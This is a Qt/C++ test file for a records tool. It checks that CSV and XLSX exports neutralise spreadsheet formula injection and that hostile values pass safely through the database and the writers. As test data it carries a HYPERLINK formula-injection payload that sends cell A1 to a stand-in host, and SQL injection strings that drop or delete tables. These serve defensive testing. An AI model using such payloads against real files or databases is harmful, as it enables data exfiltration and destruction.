// Safe exports and queries (issue 8): every text cell the CSV and XLSX writers produce
// that a spreadsheet would run as a formula (= + - @ tab CR, full-width ＝＋－＠) is
// neutralised with a leading apostrophe, in every text column; the readers take the
// apostrophe off again. Hostile names and values (quotes, SQL, NUL, very long text,
// emoji, lone surrogates) go through the store and both writers without harm.
#include "jsonrecordwriter.h"
#include "recordreader.h"
#include "recordsink.h"
#include "recordstore.h"
#include "reviewdatabase.h"
#include "tabularexport.h"
#include "testrecords.h"
#include "textnormaliser.h"
#include "ziparchive.h"

#include <QBuffer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSqlQuery>
#include <QStringDecoder>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

using namespace Hyoka;

namespace {

Record baseRecord(int n)
{
    Record r;
    r.fiscalYear = 2021;
    r.bureau = QStringLiteral("総務企画局");
    r.no = n;
    r.code = QStringLiteral("%1").arg(10101000 + n);
    r.name = QStringLiteral("事業%1").arg(n);
    r.category = QStringLiteral("その他");
    r.summary = QStringLiteral("概要");
    r.achievements = { QStringLiteral("実績") };
    r.budget = 1000;
    r.settlement = 900;
    r.level = 3;
    r.refPage = 2;
    return r;
}

// The text fields a user's file can fill, by export column header.
enum class TextField { Bureau, Code, Name, Category, Summary };

void setField(Record &r, TextField f, const QString &text)
{
    switch (f) {
    case TextField::Bureau: r.bureau = text; break;
    case TextField::Code: r.code = text; break;
    case TextField::Name: r.name = text; break;
    case TextField::Category: r.category = text; break;
    case TextField::Summary: r.summary = text; break;
    }
}

int exportColumn(TextField f)
{
    switch (f) {
    case TextField::Bureau: return 1;
    case TextField::Code: return 3;
    case TextField::Name: return 4;
    case TextField::Category: return 5;
    case TextField::Summary: return 6;
    }
    return -1;
}

// RFC 4180 rows of a CSV text.
QList<QStringList> parseCsv(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                cell += u'"';
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                cell += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            row << cell;
            cell.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            row << cell;
            rows << row;
            row.clear();
            cell.clear();
            ++i;
        } else {
            cell += c;
        }
    }
    if (!row.isEmpty() || !cell.isEmpty())
        rows << (row << cell);
    return rows;
}

QByteArray writeCsv(const QList<Record> &records, QString *error = nullptr)
{
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    CsvRecordWriter writer(buffer);
    bool ok = writer.begin();
    for (const Record &r : records)
        ok = ok && writer.write(r);
    ok = ok && writer.finish();
    if (!ok && error)
        *error = writer.errorString();
    return ok ? bytes : QByteArray();
}

bool writeXlsx(const QString &path, const QList<Record> &records, QString *error)
{
    XlsxRecordWriter writer(path);
    bool ok = writer.begin();
    for (const Record &r : records)
        ok = ok && writer.write(r);
    ok = ok && writer.finish();
    if (!ok)
        *error = writer.errorString();
    return ok;
}

// Cell texts of the first worksheet, by row and column, and whether any cell holds a formula.
struct SheetCells
{
    QMap<int, QMap<int, QString>> text;
    bool anyFormula = false;
    QString error;
};

SheetCells readSheet(const QString &path)
{
    SheetCells cells;
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly)) {
        cells.error = file.errorString();
        return cells;
    }
    ZipArchive zip;
    if (!zip.open(&file, &cells.error))
        return cells;
    QStringList shared;
    if (zip.contains(QStringLiteral("xl/sharedStrings.xml"))) {
        QXmlStreamReader xml(zip.readEntry(QStringLiteral("xl/sharedStrings.xml"), 64 << 20, &cells.error));
        while (!xml.atEnd()) {
            xml.readNext();
            if (xml.isStartElement() && xml.name() == u"si")
                shared << QString();
            else if (xml.isStartElement() && xml.name() == u"t" && !shared.isEmpty())
                shared.last() += xml.readElementText();
        }
    }
    QXmlStreamReader xml(zip.readEntry(QStringLiteral("xl/worksheets/sheet1.xml"), 64 << 20, &cells.error));
    int row = -1;
    int column = -1;
    QString type;
    while (!xml.atEnd()) {
        xml.readNext();
        if (!xml.isStartElement())
            continue;
        if (xml.name() == u"row") {
            row = xml.attributes().value(QLatin1String("r")).toInt() - 1;
        } else if (xml.name() == u"c") {
            const QStringView ref = xml.attributes().value(QLatin1String("r"));
            column = 0;
            for (const QChar c : ref) {
                if (!c.isLetter())
                    break;
                column = column * 26 + (c.unicode() - u'A' + 1);
            }
            --column;
            type = xml.attributes().value(QLatin1String("t")).toString();
        } else if (xml.name() == u"f") {
            cells.anyFormula = true;
        } else if (xml.name() == u"t") {
            cells.text[row][column] += xml.readElementText();
        } else if (xml.name() == u"v" && type == u"s") {
            cells.text[row][column] = shared.value(xml.readElementText().toInt());
        }
    }
    if (xml.hasError())
        cells.error = xml.errorString();
    return cells;
}

CollectingSink readBack(const QString &path)
{
    CollectingSink sink;
    QString error;
    if (!RecordReader::readFile(path, sink, {}, &error))
        qWarning("%s", qPrintable(error));
    return sink;
}

// libxlsxwriter writes characters XML cannot hold as _xHHHH_; the reader decodes them.
const QList<QChar> formulaStarts = { u'=', u'+', u'-', u'@', u'\t', u'\r',
                                     u'＝', u'＋', u'－', u'＠' };

} // namespace

class tst_SafeExport : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void guardEveryTextColumn_data();
    void guardEveryTextColumn();
    void guardDecisions_data();
    void guardDecisions();
    void numbersStayNumbers();
    void hostileValues_data();
    void hostileValues();
    void overlongCellRefusedNotCut();

private:
    QTemporaryDir m_dir;
};

void tst_SafeExport::initTestCase()
{
    QVERIFY(m_dir.isValid());
}

void tst_SafeExport::guardEveryTextColumn_data()
{
    QTest::addColumn<QChar>("start");
    QTest::addColumn<int>("field");
    const QList<QPair<const char *, TextField>> fields = {
        { "bureau", TextField::Bureau }, { "code", TextField::Code }, { "name", TextField::Name },
        { "category", TextField::Category }, { "summary", TextField::Summary } };
    for (const QChar c : formulaStarts) {
        for (const auto &[label, field] : fields)
            QTest::addRow("U+%04X %s", c.unicode(), label) << c << int(field);
    }
}

// One data row per formula character and text column, through both writers: the
// written cell starts with an apostrophe, no cell is a formula, and reading the file
// back gives the original text.
void tst_SafeExport::guardEveryTextColumn()
{
    QFETCH(QChar, start);
    QFETCH(int, field);
    const TextField f = TextField(field);
    const QString payload = start + QStringLiteral("HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")");
    QList<Record> records = { baseRecord(1), baseRecord(2), baseRecord(3) };
    setField(records[1], f, payload);
    const int column = exportColumn(f);

    // CSV
    QString error;
    const QByteArray csv = writeCsv(records, &error);
    QVERIFY2(!csv.isEmpty(), qPrintable(error));
    const QList<QStringList> rows = parseCsv(QString::fromUtf8(csv.mid(3))); // after the BOM
    QCOMPARE(rows.size(), 4);
    QCOMPARE(rows.at(2).value(column), u'\'' + payload);
    for (const QStringList &row : rows) {
        for (const QString &cell : row)
            QVERIFY2(!TabularExport::needsFormulaGuard(cell) || cell.startsWith(u'\''), qPrintable(cell));
    }
    const QString csvPath = m_dir.filePath(QStringLiteral("guard.csv"));
    {
        QFile out(csvPath);
        QVERIFY(out.open(QIODevice::WriteOnly));
        out.write(csv);
    }
    // A code must be digits: that row is refused on the way back in (with a
    // warning), never run.
    const int expectedRecords = f == TextField::Code ? 2 : 3;
    const CollectingSink fromCsv = readBack(csvPath);
    QCOMPARE(fromCsv.records.size(), expectedRecords);

    // XLSX
    const QString xlsxPath = m_dir.filePath(QStringLiteral("guard.xlsx"));
    QVERIFY2(writeXlsx(xlsxPath, records, &error), qPrintable(error));
    const SheetCells sheet = readSheet(xlsxPath);
    QVERIFY2(sheet.error.isEmpty(), qPrintable(sheet.error));
    QVERIFY(!sheet.anyFormula);
    QString written = sheet.text.value(2).value(column);
    // CR and other control characters are stored as _x000D_ in the XML.
    written.replace(QStringLiteral("_x000D_"), QStringLiteral("\r"));
    written.replace(QStringLiteral("_x0009_"), QStringLiteral("\t"));
    QCOMPARE(written, u'\'' + payload);
    const CollectingSink fromXlsx = readBack(xlsxPath);
    QCOMPARE(fromXlsx.records.size(), expectedRecords);

    // Both read back to the original text (a code that is no number excepted: the
    // builder normalises codes).
    if (f != TextField::Code) {
        auto fieldOf = [f](const Record &r) {
            switch (f) {
            case TextField::Bureau: return r.bureau;
            case TextField::Name: return r.name;
            case TextField::Category: return r.category;
            case TextField::Summary: return r.summary;
            case TextField::Code: return r.code;
            }
            return QString();
        };
        // The readers clean every text cell (blanks folded and trimmed), guarded or not.
        const QString expected = TextNormaliser::cleanText(payload);
        QCOMPARE(fieldOf(fromCsv.records.at(1)), expected);
        QCOMPARE(fieldOf(fromXlsx.records.at(1)), expected);
    }
}

void tst_SafeExport::guardDecisions_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("guarded");
    for (const QChar c : formulaStarts)
        QTest::addRow("starts with U+%04X", c.unicode()) << (c + QStringLiteral("1+1")) << true;
    QTest::newRow("apostrophe, then =") << QStringLiteral("'=1") << true;
    QTest::newRow("three apostrophes, then ＠") << QStringLiteral("'''＠x") << true;
    QTest::newRow("= later in the text") << QStringLiteral("a=b") << false;
    QTest::newRow("blank, then =") << QStringLiteral(" =1") << false;
    QTest::newRow("newline, then =") << QStringLiteral("\n=1") << false;
    QTest::newRow("plain apostrophe") << QStringLiteral("'x") << false;
    QTest::newRow("empty") << QString() << false;
    QTest::newRow("digits") << QStringLiteral("20101010") << false;
    QTest::newRow("● bullet") << QStringLiteral("●=") << false;
}

void tst_SafeExport::guardDecisions()
{
    QFETCH(QString, text);
    QFETCH(bool, guarded);
    QCOMPARE(TabularExport::needsFormulaGuard(text), guarded);
    const QString cell = TabularExport::guardFormula(text);
    QCOMPARE(cell, guarded ? u'\'' + text : text);
    QCOMPARE(TabularExport::unguardFormula(cell), text);
}

// Negative money is a number cell (-5), never text that starts with "-".
void tst_SafeExport::numbersStayNumbers()
{
    Record r = baseRecord(1);
    r.budget = -5;
    r.settlement = -1234;
    const QByteArray csv = writeCsv({ r });
    const QList<QStringList> rows = parseCsv(QString::fromUtf8(csv.mid(3)));
    QCOMPARE(rows.at(1).value(8), QStringLiteral("-5"));
    QCOMPARE(rows.at(1).value(9), QStringLiteral("-1234"));
    QString error;
    const QString path = m_dir.filePath(QStringLiteral("numbers.xlsx"));
    QVERIFY2(writeXlsx(path, { r }, &error), qPrintable(error));
    const CollectingSink back = readBack(path);
    QCOMPARE(back.records.size(), 1);
    QCOMPARE(back.records.at(0).budget, std::optional<qint64>(-5));
    QCOMPARE(back.records.at(0).settlement, std::optional<qint64>(-1234));
}

void tst_SafeExport::hostileValues_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<bool>("exact"); // comes back unchanged through every path

    QTest::newRow("quotes") << QStringLiteral("\"double\" and 'single' and `back`") << true;
    QTest::newRow("SQL") << QStringLiteral("'; DROP TABLE records; --") << true;
    QTest::newRow("SQL in double quotes") << QStringLiteral("\"); DELETE FROM flags; --") << true;
    QTest::newRow("placeholder marks") << QStringLiteral("? :name @p $1 %1 %2") << true;
    QTest::newRow("LIKE wildcards") << QStringLiteral("100% _x_ \\") << true;
    QTest::newRow("emoji") << QStringLiteral("事業🎌👨‍👩‍👧‍👦") << true;
    QTest::newRow("CSV syntax") << QStringLiteral("a,b\"c\r\nd") << false; // line breaks fold
    QTest::newRow("long") << QString(15000, u'長') << true; // two in one achievements cell: < 32,767
    QTest::newRow("NUL") << QStringLiteral("before") + QChar(u'\0') + QStringLiteral("after") << false;
    QTest::newRow("lone high surrogate") << QStringLiteral("a") + QChar(0xD800) + QStringLiteral("b") << false;
    QTest::newRow("lone low surrogate") << QStringLiteral("a") + QChar(0xDC00) << false;
    QTest::newRow("control characters") << QStringLiteral("a\x01\x1F\x7F b") << false;
}

// A hostile value in every text field: stored with prepared statements (the tables
// stay whole), read back unchanged, and written by all three writers without a
// crash, a formula, or a broken file.
void tst_SafeExport::hostileValues()
{
    QFETCH(QString, value);
    QFETCH(bool, exact);
    Record r = baseRecord(7);
    r.bureau = value;
    r.name = value;
    r.category = value;
    r.summary = value;
    r.achievements = { value, value };
    Record other = baseRecord(8);
    other.code = value; // as a code, too (the key of a record)

    const QString dbPath = m_dir.filePath(QStringLiteral("hostile-%1.sqlite").arg(QString::fromUtf8(QTest::currentDataTag()).replace(u' ', u'_')));
    QFile::remove(dbPath);
    ReviewDatabase db;
    QString error;
    QVERIFY2(db.open(dbPath, &error), qPrintable(error));
    RecordStore store(db);
    const ImportResult imported = store.importRecords({ r, other, baseRecord(9) }, QStringLiteral("hostile"));
    QVERIFY2(imported.ok, qPrintable(imported.error));
    QCOMPARE(store.recordCount().value_or(-1), qint64(3));
    {
        QSqlQuery q(db.database());
        QVERIFY(q.exec(QStringLiteral("SELECT count(*) FROM sqlite_master WHERE name IN "
                                      "('records', 'flags', 'achievements', 'imports')")));
        QVERIFY(q.next());
        QCOMPARE(q.value(0).toInt(), 4);
    }
    const std::optional<Record> stored = store.record(2021, r.code);
    QVERIFY(stored);
    if (exact) {
        QCOMPARE(stored->name, value);
        QCOMPARE(stored->summary, value);
        QCOMPARE(stored->achievements, (QStringList { value, value }));
        QVERIFY(store.record(2021, value).has_value());
    }
    const QList<Record> all = TestSupport::allRecords(store);
    QCOMPARE(all.size(), 3);

    // JSON: valid, and (for text JSON can hold) the same text.
    QByteArray json;
    {
        QBuffer buffer(&json);
        buffer.open(QIODevice::WriteOnly);
        JsonRecordWriter writer(buffer);
        QVERIFY(writer.begin());
        for (const Record &rec : all)
            QVERIFY(writer.write(rec));
        QVERIFY(writer.finish({}));
    }
    QJsonParseError parseError;
    const QJsonDocument doc = QJsonDocument::fromJson(json, &parseError);
    QVERIFY2(parseError.error == QJsonParseError::NoError, qPrintable(parseError.errorString()));
    QCOMPARE(doc.object().value(QStringLiteral("records")).toArray().size(), 3);
    if (exact)
        QCOMPARE(doc.object().value(QStringLiteral("records")).toArray().at(0).toObject()
                         .value(QStringLiteral("name")).toString(),
                 value);

    // CSV: valid UTF-8 that reads back to three records.
    const QByteArray csv = writeCsv(all, &error);
    QVERIFY2(!csv.isEmpty(), qPrintable(error));
    QStringDecoder utf8(QStringDecoder::Utf8);
    (void)utf8.decode(csv);
    QVERIFY(!utf8.hasError());
    const QString csvPath = m_dir.filePath(QStringLiteral("hostile.csv"));
    {
        QFile out(csvPath);
        QVERIFY(out.open(QIODevice::WriteOnly));
        out.write(csv);
    }
    const CollectingSink fromCsv = readBack(csvPath);
    QCOMPARE(fromCsv.records.size() + fromCsv.skippedRows, 3);
    if (exact) {
        QCOMPARE(fromCsv.records.at(0).name, value);
        QCOMPARE(fromCsv.records.at(0).achievements, (QStringList { value, value }));
    }

    // XLSX: a well-formed workbook that reads back to three records.
    const QString xlsxPath = m_dir.filePath(QStringLiteral("hostile.xlsx"));
    QVERIFY2(writeXlsx(xlsxPath, all, &error), qPrintable(error));
    const SheetCells sheet = readSheet(xlsxPath);
    QVERIFY2(sheet.error.isEmpty(), qPrintable(sheet.error));
    QVERIFY(!sheet.anyFormula);
    const CollectingSink fromXlsx = readBack(xlsxPath);
    QCOMPARE(fromXlsx.records.size() + fromXlsx.skippedRows, 3);
    if (exact)
        QCOMPARE(fromXlsx.records.at(0).name, value);
}

// Excel holds 32,767 characters in a cell: a longer text fails the XLSX export with a
// message naming record and column; nothing is silently cut.
void tst_SafeExport::overlongCellRefusedNotCut()
{
    Record r = baseRecord(1);
    r.summary = QString(40000, u'x');
    const QString path = m_dir.filePath(QStringLiteral("overlong.xlsx"));
    QString error;
    QVERIFY(!writeXlsx(path, { r }, &error));
    QVERIFY2(error.contains(r.code) && error.contains(u"32767"), qPrintable(error));
    QVERIFY(!QFile::exists(path));
    // CSV has no such limit.
    const QByteArray csv = writeCsv({ r });
    QVERIFY(csv.contains(QByteArray(40000, 'x')));
}

QTEST_GUILESS_MAIN(tst_SafeExport)
#include "tst_safeexport.moc"
